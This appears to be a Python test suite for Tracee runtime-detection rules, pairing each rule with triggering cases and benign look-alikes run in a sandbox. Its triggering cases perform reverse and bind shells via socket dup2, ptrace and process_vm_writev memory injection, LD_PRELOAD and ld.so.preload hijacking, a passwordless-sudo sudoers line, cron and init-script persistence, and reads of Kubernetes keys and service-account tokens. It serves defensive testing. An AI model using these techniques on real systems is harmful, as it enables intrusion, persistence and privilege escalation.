#!/usr/bin/python3 -BS
# SPDX-License-Identifier: BSD-2-Clause
# record: --env LD_PRELOAD --env LD_AUDIT --env LD_LIBRARY_PATH --env KUBERNETES_SERVICE_HOST
"""Each detection of tracee.policy, and beside it something that looks like it: tracee.py CASE DIR."""

import ctypes
import os
import socket

from stage import LIBC, OUTSIDE, CLUSTER, PYTHON, SH
from stage import append, case, check, end, forked, main, near, peek, run, sh, sleeper

PTRACE_TRACEME, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 0, 5, 16, 17
PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
NR_FINIT_MODULE = 313
WORD = ctypes.c_ulong(0x1122334455667788)


def links(stage, address=OUTSIDE):
    """Both ends of a connection."""
    stage.net(address)
    listener = stage.listener(address, 4444)
    near_end = socket.create_connection((address, 4444))
    return near_end, listener.accept()[0]


# 101: standard input or output is a connection

@case("TRC-101 stdio over socket", "a connection of its own")
def reverse_shell(stage):
    link, _ = links(stage)
    forked(lambda: [os.dup2(link.fileno(), fd) for fd in (0, 1)] and sh("exit 0"))


@case("TRC-101 stdio over socket", "a connection that came in")
def bind_shell(stage):
    link = links(stage)[1]
    forked(lambda: os.dup2(link.fileno(), 0) or sh("exit 0"))


@case("TRC-101 stdio over socket")
def connect_as_stdin(stage):
    stage.net(OUTSIDE)
    with stage.listener(OUTSIDE, 4444):
        os.close(0)
        socket.create_connection((OUTSIDE, 4444))


@near("TRC-101 stdio over socket")
def link_elsewhere(stage):
    link, _ = links(stage)
    os.dup2(link.fileno(), 9)
    pipe = os.pipe()
    os.dup2(pipe[0], 0)


# 102, 103, 104: debuggers

@case("TRC-102 anti-debugging")
def traceme(_):
    forked(lambda: LIBC.ptrace(PTRACE_TRACEME, 0, 0, 0))


@near("TRC-102 anti-debugging")
def traceme_by_gdb(stage):
    stage.over("/usr", programs=[("bin/gdb", PYTHON)])
    run("/usr/bin/gdb", "-S", "-c", "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)")


def poke(request):
    child = sleeper()
    check(LIBC.ptrace(PTRACE_ATTACH, child, 0, 0), "attach")
    os.waitpid(child, 0)
    check(LIBC.ptrace(request, child, ctypes.byref(WORD), ctypes.c_ulong(1)), "poke")
    LIBC.ptrace(PTRACE_DETACH, child, 0, 0)
    end(child)


@case("TRC-103 ptrace code injection")
def poked(_):
    poke(PTRACE_POKEDATA)


@near("TRC-103 ptrace code injection")
def peeked(_):
    poke(2)  # PTRACE_PEEKDATA


def protect(*each):
    LIBC.mmap.restype = ctypes.c_void_p
    size = ctypes.c_size_t(4096)
    page = LIBC.mmap(None, size, PROT_READ | PROT_WRITE, 0x22, -1, ctypes.c_long(0))
    for prot in each:
        check(LIBC.mprotect(ctypes.c_void_p(page), size, prot), "mprotect")


@case("TRC-104 dynamic code loading", "one after the other")
def unpacked(_):
    protect(PROT_READ | PROT_WRITE | PROT_EXEC, PROT_READ | PROT_EXEC)


@near("TRC-104 dynamic code loading")
def made_read_only(_):
    protect(PROT_READ | PROT_WRITE, PROT_READ, PROT_READ | PROT_WRITE)


# 105: programs without a file

def run_from_memory(name, program=SH):
    fd = os.memfd_create(name, 0)
    with open(program, "rb") as source:
        os.write(fd, source.read())
    run(f"/proc/{os.getpid()}/fd/{fd}", "-c", "exit 0", pass_fds=[fd])


@case("TRC-105 fileless execution")
def from_memfd(_):
    run_from_memory("x")


@case("TRC-105 fileless execution")
def from_shm(stage):
    stage.empty("/dev/shm")
    sh("cp /bin/true /dev/shm/x && /dev/shm/x")


@near("TRC-105 fileless execution")
def memfd_without_exec(stage):
    fd = os.memfd_create("data", 0)
    os.write(fd, b"\x7fELF")
    sh("cp /bin/true $1/x && $1/x", stage.root)


# 107: the dynamic linker

@case("TRC-107 dynamic linker hijacked", "environment")
def ld_preload(_):
    run("/bin/true", env={"LD_PRELOAD": "/tmp/x.so"})


@case("TRC-107 library path")
def library_path(_):
    run("/bin/true", env={"LD_LIBRARY_PATH": "/usr/lib:/tmp"})


@near("TRC-107 library path")
def library_path_of_the_system(_):
    run("/bin/true", env={"LD_LIBRARY_PATH": "/usr/lib/none:/tmpx", "LD_PRELOAD_": "/tmp"})


@case("TRC-107 dynamic linker hijacked")
def ld_so_preload(stage):
    stage.over("/etc")
    append("/etc/ld.so.preload", "/usr/lib/none.so\n", os.O_CREAT)
    os.unlink("/etc/ld.so.preload")


@case("TRC-107 dynamic linker hijacked")
def ld_so_preload_renamed(stage):
    stage.over("/etc", files=[("x", "")])
    sh("mv /etc/x /etc/ld.so.preload")


@near("TRC-107 dynamic linker hijacked")
def preload_of_the_system(stage):
    stage.over("/etc", files=[("ld.so.preload", "")])
    run("/bin/true", env={"LD_PRELOAD": "libm.so.6", "LD_LIBRARY_PATH": "/usr/lib/none:/tmpx"})
    peek("/etc/ld.so.preload")


# 109, 1012, 1015, 1016, 1017

@case("TRC-109 ASLR inspected")
def aslr(_):
    peek("/proc/sys/kernel/randomize_va_space")


@near("TRC-109 ASLR inspected")
def aslr_by_sysctl(stage):
    stage.over("/usr", programs=[("sbin/sysctl", "/bin/cat")])
    run("/usr/sbin/sysctl", "/proc/sys/kernel/randomize_va_space")


@case("TRC-1012 default loader replaced")
def loader_written(stage):
    stage.over("/usr")
    fd = os.open(os.path.realpath("/lib64/ld-linux-x86-64.so.2"), os.O_WRONLY)
    os.close(fd)


@case("TRC-1012 default loader replaced")
def loader_renamed(stage):
    stage.over("/usr", files=[("lib/x", "")])
    os.rename("/usr/lib/x", "/usr/lib/x86_64-linux-gnu/ld-2.99.so")


@near("TRC-1012 default loader replaced")
def loader_by_dpkg(stage):
    stage.over("/usr", programs=[("bin/dpkg", SH)], files=[("lib/x", "")])
    run("/usr/bin/dpkg", "-c", "mv /usr/lib/x /usr/lib/x86_64-linux-gnu/ld-2.99.so; :")
    append("/usr/lib/x86_64-linux-gnu/libld.so", "", os.O_CREAT)


ELF = b"\x7fELF" + bytes(60)


def put(path, content, mode=0o644):
    fd = os.open(path, os.O_CREAT | os.O_WRONLY, mode)
    os.write(fd, content)
    os.close(fd)


@case("TRC-1015 hidden executable created")
def hidden_written(stage):
    put(stage.path(".x"), ELF)


@case("TRC-1015 hidden executable created")
def hidden_copied(stage):
    run("/bin/cp", "/bin/true", stage.path(".x"))


@case("TRC-1015 hidden executable created", "made, then allowed")
def hidden_allowed(stage):
    sh("echo : >$1/.x; chmod 755 $1/.x", stage.root)


@near("TRC-1015 hidden executable created")
def hidden_data(stage):
    put(stage.path(".x"), b"data")
    put(stage.path("x.y"), ELF, 0o755)
    sh("mkdir $1/.d && chmod 700 $1/.d", stage.root)


@case("TRC-1016 web server shell")
def shell_of_nginx(stage):
    stage.over("/usr", programs=[("sbin/nginx", SH)])
    run("/usr/sbin/nginx", "-c", "/bin/sh -c :; :")


@near("TRC-1016 web server shell")
def program_of_nginx(stage):
    stage.over("/usr", programs=[("sbin/nginx", SH)])
    run("/usr/sbin/nginx", "-c", "/bin/true; :")
    run(SH, "-c", "/bin/sh -c :; :", "/usr/sbin/nginx")


def load_garbage(path):
    fd = os.open(path, os.O_RDONLY)
    LIBC.syscall(NR_FINIT_MODULE, fd, b"", 0)


@case("TRC-1017 kernel module loaded")
def module(stage):
    load_garbage(stage.file("x.ko", "garbage"))


@near("TRC-1017 kernel module loaded")
def module_by_udev(stage):
    path = stage.file("x.ko", "garbage")
    stage.over("/usr", programs=[("bin/udevadm", PYTHON)])
    run("/usr/bin/udevadm", "-S", "-c", "import ctypes, os\n"
        f"ctypes.CDLL(None).syscall(313, os.open({path!r}, os.O_RDONLY), b'', 0)")


# 1018: keys of a cluster

def cluster(stage, programs=()):
    stage.over("/etc", files=[("kubernetes/pki/ca.key", "key"), ("kubernetes/pki2/ca.key", "key")])
    if programs:
        stage.over("/usr", programs=programs)


@case("TRC-1018 Kubernetes keys taken")
def pki_read(stage):
    cluster(stage)
    run("/bin/cat", "/etc/kubernetes/pki/ca.key")


@case("TRC-1018 Kubernetes keys taken")
def pki_renamed(stage):
    cluster(stage)
    os.rename("/etc/kubernetes/pki/ca.key", "/etc/x")


@near("TRC-1018 Kubernetes keys taken")
def pki_by_kubelet(stage):
    cluster(stage, [("bin/kubelet", "/bin/cat")])
    run("/usr/bin/kubelet", "/etc/kubernetes/pki/ca.key")
    run("/bin/cat", "/etc/kubernetes/pki2/ca.key")


# 1023, 1024, 1025: memory of others

def open_memory(flags):
    child = sleeper()
    os.close(os.open(f"/proc/{child}/mem", flags))
    end(child)


@case("TRC-1023 memory of a process is read")
def memory_read(_):
    open_memory(os.O_RDONLY)


@near("TRC-1023 memory of a process is read")
def own_memory_read(_):
    os.close(os.open("/proc/self/mem", os.O_RDONLY))
    peek(f"/proc/{os.getppid()}/maps")


@case("TRC-1024 memory of a process is written")
def memory_written(_):
    open_memory(os.O_RDWR)


@near("TRC-1024 memory of a process is written")
def own_memory_written(_):
    os.close(os.open("/proc/self/mem", os.O_RDWR))
    open_memory(os.O_RDONLY)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def write_memory(pid):
    part = Part(ctypes.addressof(WORD), 8)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    at = ctypes.byref(part)
    check(LIBC.process_vm_writev(pid, at, one, at, one, none), "write")


@case("TRC-1025 process_vm_writev injection")
def vm_writev(_):
    child = sleeper()
    write_memory(child)
    end(child)


@near("TRC-1025 process_vm_writev injection")
def vm_writev_to_itself(_):
    write_memory(os.getpid())


# 1026, 1027, 1028: what runs later, and who may

@case("TRC-1026 start script changed")
def init_script(stage):
    stage.over("/etc", dirs=["init.d"])
    append("/etc/init.d/x", "#!/bin/sh\n", os.O_CREAT)


@case("TRC-1026 start script changed")
def rc_link(stage):
    stage.over("/etc", dirs=["rc2.d"])
    os.symlink("/tmp/x", "/etc/rc2.d/S99x")


@case("TRC-1026 start script changed")
def update_rc(stage):
    stage.over("/usr", programs=[("sbin/update-rc.d", "/bin/true")])
    run("/usr/sbin/update-rc.d", "x", "defaults")


@near("TRC-1026 start script changed")
def init_script_by_dpkg(stage):
    stage.over("/etc", dirs=["init.d"])
    stage.over("/usr", programs=[("bin/dpkg", SH), ("sbin/update-rc.d", "/bin/true")])
    run("/usr/bin/dpkg", "-c", "echo : >/etc/init.d/x; sh -c 'mv /etc/init.d/x /etc/init.d/y';"
        "/usr/sbin/update-rc.d y; :")
    run("/bin/cat", "/etc/init.d/y")


@case("TRC-1027 scheduled task changed")
def cron_written(stage):
    stage.over("/etc", dirs=["cron.d"])
    sh("echo '* * * * * root :' >/etc/cron.d/x")


@case("TRC-1027 scheduled task changed")
def cron_renamed(stage):
    stage.over("/etc", dirs=["cron.hourly"], files=[("x", "")])
    sh("mv /etc/x /etc/cron.hourly/x")


@case("TRC-1027 scheduled task changed")
def crontab_run(stage):
    stage.over("/usr", programs=[("bin/crontab", "/bin/true")])
    run("/usr/bin/crontab", "-")


@near("TRC-1027 scheduled task changed")
def crontab_listed(stage):
    stage.over("/etc", files=[("crontab", ""), ("crontab.bak", "")])
    stage.over("/usr", programs=[("bin/crontab", "/bin/true"), ("sbin/cron", SH)])
    run("/usr/bin/crontab", "-u", "root", "-l")
    run("/bin/cat", "/etc/crontab")
    append("/etc/crontab.bak")


@case("TRC-1028 sudoers changed")
def sudoers_written(stage):
    stage.over("/etc", dirs=["sudoers.d"])
    sh("echo 'ALL ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/x")


@case("TRC-1028 sudoers changed")
def sudoers_renamed(stage):
    stage.over("/etc", files=[("x", "")])
    sh("mv /etc/x /etc/sudoers")


@near("TRC-1028 sudoers changed")
def sudoers_read(stage):
    stage.over("/etc", files=[("sudoers", ""), ("sudoers.bak", "")])
    run("/bin/cat", "/etc/sudoers")
    append("/etc/sudoers.bak")


# In containers; what is near is the same on the host.

def in_container(rule, act, prepare=None, **more):
    """Two cases of one act: in a container, and on the host."""

    def inside(stage):
        if prepare:
            prepare(stage)
        stage.container()
        act(stage)

    def outside(stage):
        if prepare:
            prepare(stage)
        act(stage)

    inside.__name__ = act.__name__ + "_inside"
    outside.__name__ = act.__name__ + "_on_host"
    case(rule, **more)(inside)
    near(rule, **more)(outside)


def notify_on_release(stage):
    append(stage.path("group/notify_on_release"), "1")


def release_agent(stage):
    append(stage.path("group/release_agent"), "/x")


def control_files(stage):
    stage.file("group/notify_on_release")
    stage.file("group/release_agent")


in_container("TRC-106 notify_on_release changed", notify_on_release, control_files)
in_container("TRC-1010 release_agent changed", release_agent, control_files)


@near("TRC-1010 release_agent changed")
def release_agent_read(stage):
    control_files(stage)
    stage.container()
    peek(stage.path("group/release_agent"))


def proc_files(stage):
    """An empty /proc with the files that these rules are about."""
    stage.empty("/proc", "kcore", "sched_debug", "sysrq-trigger", "sys/kernel/core_pattern",
                "sys/kernel/sysrq")


def core_pattern(_):
    append("/proc/sys/kernel/core_pattern", "|/x")


def kcore(_):
    peek("/proc/kcore")


def sched_debug(_):
    peek("/proc/sched_debug")


def sysrq(_):
    append("/proc/sys/kernel/sysrq", "1")


in_container("TRC-1011 core_pattern changed", core_pattern, proc_files)
in_container("TRC-1021 memory of the kernel opened", kcore, proc_files)
in_container("TRC-1029 sched_debug read", sched_debug, proc_files)
in_container("TRC-1031 sysrq used", sysrq, proc_files)


def mount_disk(stage):
    LIBC.mount(b"/dev/none1", stage.root.encode(), b"ext4", ctypes.c_ulong(0), None)


in_container("TRC-1014 disk mounted", mount_disk)


@near("TRC-1014 disk mounted")
def mount_memory(stage):
    os.mkdir(stage.path("m"))
    stage.container()
    stage.empty(stage.path("m"))


def token(stage):
    stage.over("/run", files=[("secrets/kubernetes.io/serviceaccount/..data/token", "t")])
    os.symlink("..data/token", "/run/secrets/kubernetes.io/serviceaccount/token")


def token_read(_):
    run("/bin/cat", "/run/secrets/kubernetes.io/serviceaccount/token")


in_container("TRC-108 service account token read", token_read, token)


def runtime_socket(stage):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(stage.path("docker.sock"))
    listener.listen()
    os.set_inheritable(listener.fileno(), True)
    stage.listening = listener


def ask_runtime(stage):
    socket.socket(socket.AF_UNIX).connect(stage.path("docker.sock"))


in_container("TRC-1019 container runtime socket used", ask_runtime, runtime_socket)


ASK = "import socket; socket.create_connection(('%s', %d))"


def api(stage):
    stage.net(CLUSTER)
    stage.listening = [stage.listener(CLUSTER, port) for port in (443, 5432)]


def ask_api(_, port=443):
    run(PYTHON, "-S", "-c", ASK % (CLUSTER, port), env={"KUBERNETES_SERVICE_HOST": CLUSTER})


in_container("TRC-1013 Kubernetes API asked", ask_api, api)


@near("TRC-1013 Kubernetes API asked")
def ask_database(stage):
    api(stage)
    stage.container()
    ask_api(stage, 5432)


def drop(stage):
    put(stage.path("x"), ELF)


in_container("TRC-1022 dropped executable", drop)


@near("TRC-1022 dropped executable")
def drop_by_dpkg(stage):
    stage.over("/usr", programs=[("bin/dpkg", SH)])
    stage.container()
    run("/usr/bin/dpkg", "-c", f"printf '\\177ELF' >{stage.root}/x; :")
    put(stage.path("y"), b"#!/bin/sh\n")


main()
